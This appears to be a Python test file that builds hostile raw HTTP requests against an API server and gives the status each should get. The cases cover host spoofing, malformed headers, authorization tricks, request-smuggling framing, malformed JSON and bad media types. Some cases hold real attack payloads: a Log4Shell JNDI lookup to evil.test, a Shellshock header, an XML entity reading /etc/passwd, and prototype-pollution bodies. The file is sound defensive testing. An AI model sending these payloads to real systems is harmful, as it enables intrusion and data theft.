    hosted("another path in what proxies say", HOST + b"X-Original-URL: /@mark@\r\nX-Rewrite-URL: /@mark@\r\n", 200),
    case("host: another, for HTTP/1.0", b"GET @read@ HTTP/1.0\r\nHost: evil.test\r\n" + KEY + b"\r\n", 421),
    case("host: another, for a page", b"GET /docs HTTP/1.1\r\nHost: evil.test\r\n" + CLOSE + b"\r\n", 421, "C18"),
    case("host: another, for OPTIONS", b"OPTIONS @read@ HTTP/1.1\r\nHost: evil.test\r\n" + CLOSE + b"\r\n", 421, "C10"),
    case(
        "host: another, and a slash at the end",
        b"GET @read@/ HTTP/1.1\r\nHost: evil.test\r\n" + CLOSE + b"\r\n",
        MISDIRECTED,
    ),
)


def fielded(name: str, fields: bytes, expected: Expected, *findings: str) -> Hostile:
    """A read with more header fields."""
    return case(f"field: {name}", READ + fields + b"\r\n", expected, *findings)


HEADERS = (
    fielded("folded", b"X: a\r\n @mark@\r\n", 400),
    fielded("folded with a tab", b"X: a\r\n\t@mark@\r\n", 400),
    fielded("a space before its name", b" X: a\r\n", 400),
    fielded("a space in its name", b"X Y: a\r\n", 400),
    fielded("a space after its name", b"X : a\r\n", 400),
    fielded("a tab after its name", b"X\t: a\r\n", 400),
    fielded("no colon", b"@mark@\r\n", 400),
    fielded("no name", b": @mark@\r\n", 400),
    fielded("nothing but a colon", b":\r\n", 400),
    fielded("a name of HTTP/2", b":path: /@mark@\r\n", 400),
    fielded("a name with a NUL", b"X\x00Y: a\r\n", 400),
    fielded("a name with a carriage return", b"X\rY: a\r\n", 400),
    fielded("a name with a line feed", b"X\nY: a\r\n", 400),
    fielded("a name with an escape sequence", b"\x1b[31m@mark@: a\r\n", 400),
    fielded("a name beyond ASCII", b"\xc3\xa9: a\r\n", 400),
    fielded("a name of Latin-1", b"X\xff: a\r\n", 400),
    fielded("a name in quotes", b'"X": a\r\n', 400),
    fielded("a name in brackets", b"X(y): a\r\n", 400),
    fielded("a name with a slash", b"X/Y: a\r\n", 400),
    fielded("a name that is a template", b"{{7*7}}: a\r\n", 400),
    fielded("a name of all characters that may be", b"!#$%&'*+-.^_`|~09AZaz: a\r\n", 200),
    fielded("a name of 17 KB", b"X" * 17_000 + b": a\r\n", 431, "C12"),
    fielded("a value with a NUL", b"X: a\x00@mark@\r\n", 400),
    fielded("a value with a carriage return", b"X: a\r@mark@\r\n", 400),
    fielded("a value with a carriage return too many", b"X: a\r\r\n", 400),
    fielded("a value that ends with a line feed", b"X: a\n", 400),
    fielded("a value with a field after a line feed", b"X: a\nAuthorization: Bearer @mark@\r\n", 400, "C20"),
    fielded("a value with a backspace", b"X: a\x08b\r\n", 400),
    fielded("a value with an escape sequence", b"X: \x1b[31m@mark@\r\n", 400),
    fielded("a value with a vertical tab", b"X: \x0ba\r\n", 400),
    fielded("a value with a DEL", b"X: \x7f\r\n", 400),
    fielded("a value beyond ASCII", b"X: \xe2\x80\xa8\xff\r\n", 200),
    fielded("an empty value", b"X:\r\n", 200),
    fielded("a value of colons", b"X: :::\r\n", 200),
    fielded("a value of 16 KB", b"X: " + b"a" * 16_384 + b"\r\n", 431, "C12"),
    fielded("a value of 200 KB", b"X: " + b"a" * 200_000 + b"\r\n", 431, "C12"),
    fielded("a megabyte", b"X: " + b"a" * 1_000_000 + b"\r\n", 431, "C12"),
    fielded("sixty more", b"".join(b"X-%d: a\r\n" % number for number in range(60)), 200, "C12"),
    fielded("seventy more", b"".join(b"X-%d: a\r\n" % number for number in range(70)), 431, "C12"),
    fielded("seventy of the same name", b"X: a\r\n" * 70, 431, "C12"),
    fielded("two thousand more", b"".join(b"X-%d: a\r\n" % number for number in range(2_000)), 431, "C12"),
    fielded("two hundred cookies", b"Cookie: " + b"a=b; " * 200 + b"\r\n", 200),
    fielded("a lookup of a logger", b"User-Agent: ${jndi:ldap://evil.test/@mark@}\r\n", 200),
    fielded("a function of a shell", b"User-Agent: () { :; }; /bin/true\r\n", 200),
    fielded("five hundred ranges", b"Range: bytes=" + b"0-," * 500 + b"0-\r\n", 200),
    fielded("conditions that are none", b"If-None-Match: *\r\nIf-Modified-Since: @mark@\r\n", 200),
    fielded("a type that nobody has", b"Accept: @mark@/@mark@;q=x\r\n", 200),
    fielded("five hundred types", b"Accept: " + b"a/b;q=0.1, " * 500 + b"*/*\r\n", 200),
    fielded("another language", b"Accept-Language: " + b"x" * 500 + b"\r\nAccept-Encoding: identity;q=0\r\n", 200),
    fielded("an address of a proxy", b"X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Proto: @mark@\r\n", 200),
    fielded("an id of the client's", b"X-Request-Id: @mark@\r\n", 200),
    fielded("Connection, which names the key", b"Connection: Authorization\r\n", 200),
    fielded("Connection, which names the host", b"Connection: Host\r\n", 200),
    fielded("Connection, which names nothing", b"Connection: ,,;\x80\r\n", 200),
    fielded("Connection of an old proxy", b"Proxy-Connection: keep-alive\r\n", 200),
    fielded("Keep-Alive for a year", b"Keep-Alive: timeout=31536000\r\n", 200),
    fielded("TE", b"TE: trailers, chunked;q=0\r\n", 200),
    fielded("Trailer", b"Trailer: Authorization\r\n", 200),
    fielded("Max-Forwards", b"Max-Forwards: 0\r\n", 200),
    fielded("Expect, of something else", b"Expect: @mark@\r\n", frozenset({200, 417})),
    fielded("Expect, of two things", b"Expect: 100-continue, @mark@\r\n", frozenset({200, 417})),
    fielded("Upgrade without Connection", b"Upgrade: websocket\r\n", 200),
    fielded("Connection without Upgrade", b"Connection: Upgrade\r\n", 200),
    fielded(
        "Upgrade to HTTP/2", b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", 200
    ),
    fielded("Upgrade to TLS", b"Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n", 200),
    fielded(
        "Upgrade to a web socket",
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        200,
    ),
    fielded("Upgrade to a web socket, without its key", b"Connection: Upgrade\r\nUpgrade: websocket\r\n", 200),
    case("field: the section ends with a line feed", READ + b"\n", 400),
)


def authorized(name: str, field: bytes, expected: Expected, *findings: str) -> Hostile:
    """A read with this field instead of the key."""
    content = b"GET @read@ HTTP/1.1\r\n" + HOST + CLOSE + field + b"\r\n"
    return case(f"key: {name}", content, expected, *findings)


KEYS = (
    authorized("none", b"", 401, "C18"),
    authorized("an empty field", b"Authorization:\r\n", 401),
    authorized("a scheme alone", b"Authorization: Bearer\r\n", 401),
    authorized("a scheme and spaces", b"Authorization: Bearer   \r\n", 401),
    authorized("a key alone", b"Authorization: @key@\r\n", 401),
    authorized("another key", b"Authorization: Bearer @mark@\r\n", 401),
    authorized("one letter more", b"Authorization: Bearer @key@x\r\n", 401),
    authorized("a scheme in another case", b"Authorization: bEaReR @key@\r\n", 200),
    authorized("a name in another case", b"AUTHORIZATION: Bearer @key@\r\n", 200),
    authorized("another scheme", b"Authorization: Basic @key@\r\n", 401),
    authorized("a scheme of its own", b"Authorization: @mark@ @key@\r\n", 401),
    authorized("a scheme twice", b"Authorization: Bearer Bearer @key@\r\n", 401),
    authorized("a scheme and a tab", b"Authorization: Bearer\t@key@\r\n", 401),
    authorized("a scheme, a space and a tab", b"Authorization: Bearer \t@key@\r\n", 401),
    authorized("in quotes", b'Authorization: Bearer "@key@"\r\n', 401),
    authorized("a list", b"Authorization: Bearer @key@, Basic @mark@\r\n", 401),
    authorized("a parameter", b'Authorization: Bearer realm="@mark@"\r\n', 401),
    authorized("with a NUL", b"Authorization: Bearer @key@\x00\r\n", 400),
    authorized("with a space that does not break, after it", b"Authorization: Bearer @key@\xa0\r\n", 401),
    authorized("with a space that does not break, before it", b"Authorization: Bearer \xa0@key@\r\n", 401),
    authorized("with a next line", b"Authorization: Bearer @key@\x85\r\n", 401),
    authorized("beyond ASCII", b"Authorization: Bearer \xe2\x84\xaa\xff\r\n", 401, "C5"),
    authorized("with a line feed", b"Authorization: Bearer @mark@\n@key@\r\n", 400),
    authorized("in a folded line", b"Authorization: Bearer\r\n @key@\r\n", 400),
    authorized("of 16,000 bytes", b"Authorization: Bearer " + b"x" * 16_000 + b"\r\n", 401, "C12"),
    authorized("of 17,000 bytes", b"Authorization: Bearer " + b"x" * 17_000 + b"\r\n", 431, "C12"),
    authorized("twice the same", KEY + KEY, 400, "C20"),
    authorized("twice, the good one first", KEY + b"Authorization: Bearer @mark@\r\n", 400, "C20"),
    authorized("twice, the good one last", b"Authorization: Bearer @mark@\r\n" + KEY, 400, "C20"),
    authorized("twice, once empty", b"Authorization:\r\n" + KEY, 400, "C20"),
    authorized("in a name with an underscore", b"Authorization_: Bearer @key@\r\n", 401, "C20"),
    authorized("in a field of proxies", b"Proxy-Authorization: Bearer @key@\r\n", 401),
    authorized("in a field of its own", b"X-Api-Key: @key@\r\n", 401, "C20"),
    authorized("in a cookie", b"Cookie: Authorization=Bearer @key@\r\n", 401),
    case("key: none, and a body that does not fit", ACT.replace(KEY, b"") + JSON + SIZED + b'{"@mark@":1}', 401),
    case(
        "key: none, and a body of another type",
        ACT.replace(KEY, b"") + b"Content-Type: text/xml\r\n" + SIZED + b"<x/>",
        401,
    ),
    case(
        "key: none, and a job that cannot be",
        ACT.replace(KEY, b"").replace(b"@action@", b"@jobs@/..@verb@") + b"\r\n",
        400,
    ),
)


def framed(name: str, rest: bytes, expected: Expected, *findings: str, carries: bytes = b"@body@") -> Hostile:
    """An action whose body is framed in some way."""
    return case(f"framing: {name}", ACT + JSON + rest, expected, *findings, actions=1, carries=carries)


FRAMING = (
    framed("no length, no body", b"\r\n", 200, "C4", carries=b""),
    framed("a length of nothing", b"Content-Length: 0\r\n\r\n", 200, "C4", carries=b""),
    framed("a length with zeros", b"Content-Length: 000@size@\r\n\r\n@body@", 200),
    framed("a length with a tab", b"Content-Length:\t@size@ \r\n\r\n@body@", 200),
    framed("two lengths", b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x", 400, "C20"),
    framed("the same length twice", b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}", 400, "C20"),
    framed("a list of lengths", b"Content-Length: 2, 2\r\n\r\n{}", 400),
    framed("an empty length", b"Content-Length:\r\n\r\n{}", 400),
    framed("a length with a plus sign", b"Content-Length: +2\r\n\r\n{}", 400),
    framed("a length with a minus sign", b"Content-Length: -2\r\n\r\n{}", 400),
    framed("a length below nothing", b"Content-Length: -0\r\n\r\n", 400),
    framed("a hexadecimal length", b"Content-Length: 0x2\r\n\r\n{}", 400),
    framed("a length in another notation", b"Content-Length: 2e0\r\n\r\n{}", 400),
    framed("a length with a point", b"Content-Length: 2.0\r\n\r\n{}", 400),
    framed("a length with an underscore", b"Content-Length: 0_2\r\n\r\n{}", 400),
    framed("a length in quotes", b'Content-Length: "2"\r\n\r\n{}', 400),
    framed("a length with a space", b"Content-Length: 0 2\r\n\r\n{}", 400),
    framed("a length with a letter", b"Content-Length: 2x\r\n\r\n{}", 400),
    framed("a length in Arabic digits", b"Content-Length: \xd9\xa2\r\n\r\n{}", 400),
    framed("a length with a space that does not break", b"Content-Length: 2\xa0\r\n\r\n{}", 400),
    framed("a length with a vertical tab", b"Content-Length: \x0b2\r\n\r\n{}", 400),
    framed("a length with a NUL", b"Content-Length: 2\x00\r\n\r\n{}", 400),
    framed("a space before the colon of a length", b"Content-Length : 2\r\n\r\n{}", 400),
    framed("a space before a length", b" Content-Length: 2\r\n\r\n{}", 400),
    framed("a length of 2^63", b"Content-Length: 9223372036854775808\r\n\r\n{}", TOO_LARGE, "C12"),
    framed("a length that wraps around", b"Content-Length: 18446744073709551618\r\n\r\n{}", TOO_LARGE, "C12"),
    framed("a length of forty digits", b"Content-Length: " + b"9" * 40 + b"\r\n\r\n{}", TOO_LARGE, "C12"),
    framed("a length that is too large", b"Content-Length: 65537\r\n\r\n{}", 413, "C12"),
    framed("a length that is too short", b"Content-Length: 1\r\n\r\n{}", 400),
    framed("a length and an underscore", b"Content_Length: 2\r\n\r\n", 200, "C20", carries=b""),
    framed("a length and chunks", b"Content-Length: 2\r\n" + CHUNKED + b"2\r\n{}\r\n" + LAST, 400),
    framed("chunks and a length", b"Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks and a length of nothing", b"Content-Length: 0\r\n" + CHUNKED + b"2\r\n{}\r\n" + LAST, 400),
    framed("chunks", CHUNKED + BODY + LAST, 200, "C3"),
    framed("chunks of one byte", CHUNKED + b"1\r\n{\r\n1\r\n}\r\n" + LAST, 200, "C3", carries=b""),
    framed("no chunks", CHUNKED + LAST, 200, "C3", "C4", carries=b""),
    framed("chunks that do not fit", CHUNKED + b'e\r\n{"unheard":12}\r\n' + LAST, 400, "C3"),
    framed(
        "chunks that are too many", CHUNKED + b"1000\r\n" + (b" " * 4_096 + b"\r\n1000\r\n") * 16 + b"x", 413, "C12"
    ),
    framed("chunks for HTTP/1.1 in another case", b"transfer-encoding: Chunked\r\n\r\n" + BODY + LAST, 200, "C3"),
    framed("chunks twice", b"Transfer-Encoding: chunked, chunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks twice, in two fields", b"Transfer-Encoding: chunked\r\n" + CHUNKED + b"2\r\n{}\r\n" + LAST, 400),
    framed("chunks of what is compressed", b"Transfer-Encoding: gzip, chunked\r\n\r\n" + BODY + LAST, 400, "C3"),
    framed("chunks of what nobody knows", b"Transfer-Encoding: @mark@, chunked\r\n\r\n" + BODY + LAST, 400, "C3"),
    framed(
        "chunks of what nobody knows, in two fields", b"Transfer-Encoding: x\r\n" + CHUNKED + BODY + LAST, 400, "C3"
    ),
    framed("chunks of what is itself", b"Transfer-Encoding: identity, chunked\r\n\r\n" + BODY + LAST, 400, "C3"),
    framed("chunks, then something else", b"Transfer-Encoding: chunked, gzip\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("something else", b"Transfer-Encoding: gzip\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("nothing else", b"Transfer-Encoding: identity\r\nContent-Length: 2\r\n\r\n{}", 400),
    framed("an empty encoding and a length", b"Transfer-Encoding:\r\nContent-Length: 2\r\n\r\n{}", 400),
    framed("an encoding and a length", b"Transfer-Encoding: @mark@\r\nContent-Length: 2\r\n\r\n{}", 400),
    framed("chunks with a letter before", b"Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks with a letter after", b"Transfer-Encoding: chunkedx\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks with a parameter", b"Transfer-Encoding: chunked;q=1\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks in quotes", b'Transfer-Encoding: "chunked"\r\n\r\n2\r\n{}\r\n' + LAST, 400),
    framed("chunks with a vertical tab", b"Transfer-Encoding: \x0bchunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks with a NUL", b"Transfer-Encoding: chunked\x00\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks with a space that does not break", b"Transfer-Encoding: chunked\xa0\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks with a space before the colon", b"Transfer-Encoding : chunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks in a folded line", b"Transfer-Encoding:\r\n chunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks after a line feed", b"X: y\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks after a carriage return", b"X: y\rTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n" + LAST, 400),
    framed("chunks in a list that starts empty", b"Transfer-Encoding: , chunked\r\n\r\n" + BODY + LAST, LENIENT),
    framed("chunks in a list that ends empty", b"Transfer-Encoding: chunked,\r\n\r\n" + BODY + LAST, LENIENT),
    framed("a size with zeros", CHUNKED + b"000@hex@\r\n@body@\r\n000\r\n\r\n", 200, "C3"),
    framed("a size in upper case", CHUNKED + b"C\r\n{          }\r\n" + LAST, 200, "C3", carries=b""),
    framed("a size with 0x", CHUNKED + b"0x2\r\n{}\r\n" + LAST, 400),
    framed("a size with a plus sign", CHUNKED + b"+2\r\n{}\r\n" + LAST, 400),
    framed("a size with a minus sign", CHUNKED + b"-2\r\n{}\r\n" + LAST, 400),
    framed("a size with a space before", CHUNKED + b" 2\r\n{}\r\n" + LAST, 400),
    framed("a size with a space after", CHUNKED + b"2 \r\n{}\r\n" + LAST, 400),
    framed("a size that is none", CHUNKED + b"g\r\n{}\r\n" + LAST, 400),
    framed("no size", CHUNKED + b"\r\n{}\r\n" + LAST, 400),
    framed("a size that is too small", CHUNKED + b"1\r\n{}\r\n" + LAST, 400),
    framed("a size that is too large", CHUNKED + b"3\r\n{}\r\n" + LAST, 400),
    framed("a size that wraps around", CHUNKED + b"10000000000000002\r\n{}\r\n" + LAST, 400, "C12"),
    framed("sizes without line breaks", CHUNKED + b"2\r\n{}" + LAST, 400),
    framed("line feeds", CHUNKED + b"2\n{}\n0\n\n", 400),
    framed("carriage returns", CHUNKED + b"2\r{}\r0\r\r", 400),
    framed("a carriage return too many", CHUNKED + b"2\r\r\n{}\r\n" + LAST, 400),
    framed("an extension", CHUNKED + b"@hex@;x=y\r\n@body@\r\n0;z\r\n\r\n", 200, "C3"),
    framed("an extension in quotes", CHUNKED + b'@hex@;x="y;\\"z"\r\n@body@\r\n' + LAST, 200, "C3"),
    framed("an extension with a NUL", CHUNKED + b"2;x=\x00\r\n{}\r\n" + LAST, 400),
    framed("an extension with a line feed", CHUNKED + b"2;x\n{}\r\n" + LAST, 400),
    framed("an extension with a carriage return", CHUNKED + b"2;x\ry\r\n{}\r\n" + LAST, 400),
    framed("an extension with a chunk", CHUNKED + b"2;\n00\r\n{}\r\n" + LAST, 400),
    framed("an extension beyond ASCII", CHUNKED + b"2;\xff\r\n{}\r\n" + LAST, 400),
    framed(
        "an extension of 1 MB", CHUNKED + b"@hex@;x=" + b"y" * 1_000_000 + b"\r\n@body@\r\n" + LAST, TOO_LARGE, "C12"
    ),
    framed("a body that is not in chunks", CHUNKED + b"{}", 400),
    framed("a trailer field", CHUNKED + BODY + b"0\r\nX: @mark@\r\n\r\n", 200, "C3"),
    framed("a trailer field with another type", CHUNKED + BODY + b"0\r\nContent-Type: text/plain\r\n\r\n", 200, "C3"),
    framed(
        "a trailer field with another key", CHUNKED + BODY + b"0\r\nAuthorization: Bearer @mark@\r\n\r\n", 200, "C20"
    ),
    framed("a trailer field with a length", CHUNKED + BODY + b"0\r\nContent-Length: 3\r\n\r\n", LENIENT, "C20"),
    framed(
        "a trailer field with an encoding", CHUNKED + BODY + b"0\r\nTransfer-Encoding: chunked\r\n\r\n", LENIENT, "C20"
    ),
    framed("a trailer field that is folded", CHUNKED + BODY + b"0\r\nX: y\r\n z\r\n\r\n", 400),
    framed("a trailer field without a name", CHUNKED + BODY + b"0\r\n: y\r\n\r\n", 400),
    framed("a trailer field with a NUL", CHUNKED + BODY + b"0\r\nX: \x00\r\n\r\n", 400),
    framed("a trailer section that ends with line feeds", CHUNKED + BODY + b"0\r\nX: y\n\n", 400),
    framed("a trailer field of 100 KB", CHUNKED + BODY + b"0\r\nX: " + b"y" * 100_000 + b"\r\n\r\n", TOO_LARGE, "C12"),
    framed("ten thousand trailer fields", CHUNKED + BODY + b"0\r\n" + b"X: y\r\n" * 10_000 + b"\r\n", TOO_LARGE, "C12"),
    framed("a body nobody announced", b"\r\n@body@", 200, carries=b""),
    case(
        "framing: the key in a trailer field",
        ACT.replace(KEY, b"") + JSON + CHUNKED + BODY + b"0\r\n" + KEY + b"\r\n",
        401,
        "C20",
    ),
    case("framing: the type in a trailer field", ACT + CHUNKED + BODY + b"0\r\n" + JSON + b"\r\n", 415, "C2"),
    case(
        "framing: the host in a trailer field",
        ACT.replace(HOST, b"") + JSON + CHUNKED + BODY + b"0\r\n" + HOST + b"\r\n",
        400,
    ),
    case(
        "framing: chunks for HTTP/1.0",
        ACT_AND_STAY.replace(b"HTTP/1.1", b"HTTP/1.0") + JSON + CHUNKED + BODY + LAST,
        LENIENT,
        "C3",
        actions=1,
        closes=True,
    ),
    case("framing: a body for a read", READ + JSON + b"Content-Length: 2\r\n\r\n[]", 415, "C15"),
    case("framing: a body in chunks for a read", READ + JSON + CHUNKED + b"2\r\n[]\r\n" + LAST, 415, "C15", "C3"),
    case("framing: XML for a read", READ + b"Content-Type: text/xml\r\nContent-Length: 4\r\n\r\n<x/>", 415, "C15"),
    case(
        "framing: a form for a read",
        READ + b"Content-Type: multipart/form-data; boundary=x\r\n" + SIZED + b"--x--\r\n",
        415,
        "C14",
        "C15",
    ),
    case("framing: a body without a type for a read", READ + SIZED + b"@mark@", 415, "C15", "C2"),
    case("framing: no body, in chunks, for a read", READ + CHUNKED + LAST, 200),
)


def bodied(name: str, body: bytes, expected: Expected, *findings: str, carries: bytes = b"") -> Hostile:
    """An action with a body that is said to be JSON."""
    return case(f"body: {name}", ACT + JSON + SIZED + body, expected, *findings, actions=1, carries=carries)


def valued(name: str, value: bytes, expected: Expected, *findings: str) -> Hostile:
    """An action with a body of one member, as the API knows it, of some value; what is taken reaches the vendor."""
    body = b'{"@member@":' + value + b"}"
    return bodied(name, body, expected, *findings, carries=body)


BODIES = (
    valued("no number", b"NaN", 400, "C6"),
    valued("an infinite number", b"-Infinity", 400, "C6"),
    valued("a number that becomes infinite", b"1e400", 400, "C6"),
    valued("a number that becomes nothing", b"1e-400", 400, "C6"),
    valued("an exponent of 50,000 digits", b"1e" + b"9" * 50_000, 400, "C5"),
    valued("21 digits", b"1" * 21, 400, "C5"),
    valued("60,000 digits", b"1" * 60_000, 400, "C5", "C12"),
    valued("60,000 digits after the point", b"0." + b"1" * 60_000, 400, "C5", "C12"),
    valued("a number with a plus sign", b"+1", 400),
    valued("a number with a zero before", b"01", 400),
    valued("a number without a zero before", b".5", 400),
    valued("a hexadecimal number", b"0x1", 400),
    valued("a number in Arabic digits", b"\xd9\xa1", 400),
    valued("a number", b"7", 400, "C15"),
    valued("nothing", b"null", 400),
    valued("an array", b'["@mark@"]', 400),
    valued("an operator of a database", b'{"$gt":""}', 400),
    valued("an empty text", b'""', 400),
    valued("a text of 5,000 characters", b'"' + b"x" * 5_000 + b'"', 400, "C12"),
    valued("half of a surrogate pair", b'"\\ud83d"', 400, "C6"),
    valued("the other half of a surrogate pair", b'"\\ude00"', 400, "C6"),
    valued("a surrogate pair the wrong way round", b'"\\ude00\\ud83d"', 400, "C6"),
    valued("half of a surrogate pair in bytes", b'"\xed\xa0\xbd"', 400, "C5"),
    valued("a surrogate pair in bytes", b'"\xed\xa0\xbd\xed\xb8\x80"', 400, "C5"),
    valued("an overlong slash", b'"\xc0\xaf@mark@"', 400, "C5"),
    valued("a character cut off", b'"\xf0\x9f\x98"', 400, "C5"),
    valued("a byte of Latin-1", b'"\xe9"', 400, "C5"),
    valued("bytes that are never UTF-8", b'"\xff\xfe@mark@"', 400, "C5"),
    valued("a NUL", b'"a\x00b"', 400),
    valued("a tab", b'"a\tb"', 400),
    valued("a line feed", b'"a\nb"', 400),
    valued("an escape that is none", b'"\\x41"', 400),
    valued("an escape cut off", b'"\\u12"', 400),
    valued("an escape with a sign", b'"\\u+041"', 400),
    valued("an escape with an underscore", b'"\\u0_41"', 400),
    valued("a text that does not end", b'"@mark@', 400),
    valued("a text in other quotes", b"'@mark@'", 400),
    valued("a line separator", b'"\xe2\x80\xa8"', 200),
    valued("a template", b'"{{7*7}}${7*7}%s"', 200),
    valued("an escaped NUL", b'"\\u0000"', 200),
    valued("an escaped escape sequence", b'"\\u001b[31m"', 200),
    valued("text from right to left", b'"\xe2\x80\xae"', 200),
    valued("4,096 characters of four bytes", b'"' + b"\xf0\x9f\x98\x80" * 4_096 + b'"', 200, "C12"),
    valued("deep arrays", b"[" * 40 + b"]" * 40, 400, "C5"),
    valued("60 KB of deep arrays", b"[" * 30_000 + b"]" * 30_000, 400, "C5", "C12"),
    bodied("33 arrays", b"[" * 33 + b"]" * 33, 400, "C5"),
    bodied("60 KB of arrays without an end", b"[" * 60_000, 400, "C5", "C12"),
    bodied("60 KB of deep objects", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, 400, "C5", "C12"),
    bodied("objects and arrays in turn", b'[{"a":' * 500 + b"1" + b"}]" * 500, 400, "C5"),
    bodied("the same name twice", b'{"@member@":"a","@member@":"@mark@"}', 400, "C6"),
    bodied("the same name twice, once escaped", b'{"@member@":"a","@escaped@":"@mark@"}', 400, "C6"),
    bodied("the same name twice, deep inside", b'{"@member@":[{"a":1,"a":2}]}', 400, "C6"),
    bodied("the same name five thousand times", b"{" + b'"a":1,' * 5_000 + b'"a":1}', 400, "C6", "C12"),
    bodied("four thousand names", b"{" + b",".join(b'"%d":1' % number for number in range(4_000)) + b"}", 400, "C12"),
    bodied("a prototype", b'{"__proto__":{"@mark@":1}}', 400),
    bodied("a constructor", b'{"constructor":{"prototype":{"@mark@":1}}}', 400),
    bodied("a name that nobody knows", b'{"@mark@ ":1}', 400, "C1"),
    bodied("a name in another case", b'{"NOTE":"x"}', 400),
    bodied("a name with a NUL", b'{"@member@\\u0000":"x"}', 400),
    bodied("an empty name", b'{"":"x"}', 400),
    bodied("a name that is a number", b'{1:"x"}', 400),
    bodied("a name without quotes", b'{@member@:"x"}', 400),
    bodied("a name without a value", b'{"@member@"}', 400),
    bodied("a comma at the end", b'{"@member@":"x",}', 400),
    bodied("a comment", b'{"@member@":"x"/*@mark@*/}', 400),
    bodied("a comment before", b"//@mark@\n@body@", 400),
    bodied("two values", b"@body@@body@", 400),
    bodied("two lines", b"@body@\n@body@", 400),
    bodied("more than a value", b"@body@@mark@", 400),
    bodied("a NUL after it", b"@body@\x00", 400),
    bodied("a prefix against scripts", b")]}',\n@body@", 400),
    bodied("a call of a script", b"x(@body@)", 400),
    bodied("a byte order mark", b"\xef\xbb\xbf@body@", 400, "C5"),
    bodied("UTF-16", '{"note":"x"}'.encode("utf-16"), 400, "C5"),
    bodied("UTF-16 without its mark", '{"note":"x"}'.encode("utf-16-be"), 400, "C5"),
    bodied("UTF-32", '{"note":"x"}'.encode("utf-32"), 400, "C5"),
    bodied("a space that does not break before it", b"\xc2\xa0@body@", 400),
    bodied("a vertical tab before it", b"\x0b@body@", 400),
    bodied("spaces around it", b" \t\r\n@body@ \n", 200, carries=b"@body@"),
    bodied("nothing but spaces", b"   ", 400),
    bodied("half of it", b'{"@member@":', 400),
    bodied("an array at the top", b"[@body@]", 400, "C1"),
    bodied("a text at the top", b'"@mark@"', 400, "C1"),
    bodied("a number at the top", b"7", 400, "C1"),
    bodied("nothing at the top", b"null", 400, "C1"),
    bodied("no number at the top", b"NaN", 400, "C6"),
    bodied("XML", b"<x>@mark@</x>", 400),
    bodied("an entity of XML", b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', 400),
    bodied("a form", b"@member@=@mark@", 400),
    bodied("YAML", b"@member@: @mark@", 400),
    bodied("almost 64 KiB", b"@body@".ljust(65_000), 200, "C12", carries=b"@body@"),
    bodied("64 KiB and a byte", b" " * 65_537, 413, "C12"),
    bodied("a megabyte", b" " * 1_000_000, 413, "C12"),
    case("body: 64 KiB and a byte, without a key", ACT.replace(KEY, b"") + JSON + SIZED + b" " * 65_537, 413, "C12"),
    case(
        "body: 64 KiB and a byte of a form",
        ACT + b"Content-Type: multipart/form-data; boundary=x\r\n" + SIZED + b" " * 65_537,
        413,
        "C12",
        "C14",
    ),
)


def typed(name: str, fields: bytes, expected: Expected, *findings: str, body: bytes = b"@body@") -> Hostile:
    """An action with a body that is good, or another, and with these fields instead of its type."""
    return case(f"type: {name}", ACT + fields + SIZED + body, expected, *findings, actions=1)


def declared(name: str, media_type: bytes, expected: Expected, *findings: str) -> Hostile:
    """An action with a body that is good, and of this type."""
    return typed(name, b"Content-Type: " + media_type + b"\r\n", expected, *findings)


FORM = b'--x\r\nContent-Disposition: form-data; name="@member@"\r\n\r\n@mark@\r\n--x--\r\n'

MEDIA_TYPES = (
    declared("in mixed case", b"Application/JSON", 200, "C1"),
    declared("in upper case", b"APPLICATION/JSON; CHARSET=UTF-8", 200, "C1"),
    typed(
        "in mixed case, of what does not fit", b"Content-Type: Application/JSON\r\n", 400, "C1", body=b'{"@mark@ ":1}'
    ),
    typed("in mixed case, of no JSON", b"Content-Type: application/Json\r\n", 400, "C1", body=b"@mark@"),
    typed("its field in upper case", b"CONTENT-TYPE: application/json\r\n", 200, "C1"),
    typed("none", b"", 415, "C2"),
    typed("none, of no JSON", b"", 415, "C2", body=b"@mark@"),
    typed("an empty one", b"Content-Type:\r\n", 415, "C2"),
    typed("in a name with an underscore", b"Content_Type: application/json\r\n", 415, "C2", "C20"),
    typed("twice the same", JSON + JSON, 400, "C20"),
    typed("twice, the good one first", JSON + b"Content-Type: text/plain\r\n", 400, "C20"),
    typed("twice, the good one last", b"Content-Type: text/plain\r\n" + JSON, 400, "C20"),
    declared("a list", b"application/json, text/plain", 415),
    declared("with parameters", b"application/json; x=y; z=a", 200, "C1"),
    declared("with a parameter without a value", b"application/json; x=y; z", 415, "C1"),
    declared("with a thousand parameters", b"application/json" + b";a=b" * 1_000, 200, "C12"),
    declared("with empty parameters", b"application/json;;;", 200, "C1"),
    declared("with a charset in quotes", b'application/json; charset="UTF-8"', 200, "C1"),
    declared("with another charset", b"application/json; charset=utf-16", 415, "C5"),
    declared("with a charset that nobody knows", b"application/json; charset=@mark@", 415, "C5"),
    declared("with the charset of old mails", b"application/json; charset=utf-7", 415, "C5"),
